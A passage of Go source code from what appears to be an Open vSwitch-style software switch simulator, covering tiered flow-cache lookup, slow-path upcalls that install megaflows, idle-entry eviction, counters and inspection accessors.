		ent, cost, ok := t.Lookup(k, now)
		scanned += cost
		if !ok {
			continue
		}
		s.tierHits[i]++
		for _, upper := range s.tiers[:i] {
			upper.Install(k, ent)
		}
		return Decision{Verdict: ent.Verdict, Path: t.Path(), MasksScanned: scanned}
	}

	// Upcall: full slow-path classification, then cache the megaflow in
	// the authoritative tier and reference it from the tiers above, so
	// their hits keep the flow warm.
	s.counters.Upcalls++
	res := s.cls.Lookup(k)
	v := cache.Verdict{Verdict: flowtable.Deny}
	if res.Rule != nil {
		v = res.Rule.Action
	}
	if s.installer != nil {
		ent, err := s.installer.InsertMegaflow(res.Megaflow, v, now)
		if err != nil {
			s.counters.InstallErr++
		} else {
			for _, upper := range s.tiers[:s.promoteTo] {
				upper.Install(k, ent)
			}
		}
	}
	return Decision{Verdict: v, Path: PathSlow, MasksScanned: scanned}
}

func (s *Switch) account(v cache.Verdict) {
	if v.Verdict == flowtable.Allow {
		s.counters.Allowed++
	} else {
		s.counters.Denied++
	}
}

// RunRevalidator performs the periodic maintenance OVS's revalidator
// threads do: evict cache entries idle past the configured timeout (tier
// by tier) and expire stale conntrack entries. Returns the eviction count.
func (s *Switch) RunRevalidator(now uint64) int {
	if s.ct != nil {
		s.ct.Expire(now)
	}
	if now < s.maxIdle {
		return 0
	}
	evicted := 0
	for _, t := range s.tiers {
		evicted += t.EvictIdle(now - s.maxIdle)
	}
	return evicted
}

// Conntrack exposes the connection tracker, or nil when stateless.
func (s *Switch) Conntrack() *conntrack.Table { return s.ct }

// Counters returns a snapshot of the switch counters.
func (s *Switch) Counters() Counters {
	c := s.counters
	c.TierHits = make([]TierHit, len(s.tiers))
	for i, t := range s.tiers {
		c.TierHits[i] = TierHit{Tier: t.Name(), Hits: s.tierHits[i]}
	}
	return c
}

// EMC exposes the microflow cache for inspection and experiments, or nil
// when the hierarchy has no EMC tier.
func (s *Switch) EMC() *cache.EMC {
	for _, t := range s.tiers {
		if et, ok := t.(*EMCTier); ok {
			return et.EMC()
		}
	}
	return nil
}

// SMC exposes the signature-match cache, or nil when the hierarchy has no
// SMC tier.
func (s *Switch) SMC() *cache.SMC {
	for _, t := range s.tiers {
		if st, ok := t.(*SMCTier); ok {
			return st.SMC()
		}
	}
	return nil
}

// Megaflow exposes the megaflow cache for inspection and experiments, or
// nil when the hierarchy has no megaflow tier.
func (s *Switch) Megaflow() *cache.Megaflow {
	for _, t := range s.tiers {
		if mt, ok := t.(*MegaflowTier); ok {
			return mt.Megaflow()
		}
	}
	return nil
}

// Classifier exposes the slow-path classifier for inspection.
func (s *Switch) Classifier() *classifier.Classifier { return s.cls }

// String renders a dpctl-style summary.
func (s *Switch) String() string {
	var b strings.Builder
	fmt.Fprintf(&b, "switch %q: %d rules, %d ports\n", s.name, s.table.Len(), len(s.ports))
	fmt.Fprintf(&b, "  counters: %+v\n", s.Counters())
	for _, t := range s.tiers {
		if mt, ok := t.(*MegaflowTier); ok {
			fmt.Fprintf(&b, "  %s", mt.Megaflow().String())
			continue
		}
		fmt.Fprintf(&b, "  %s\n", t.Stats())
	}
	return b.String()
}
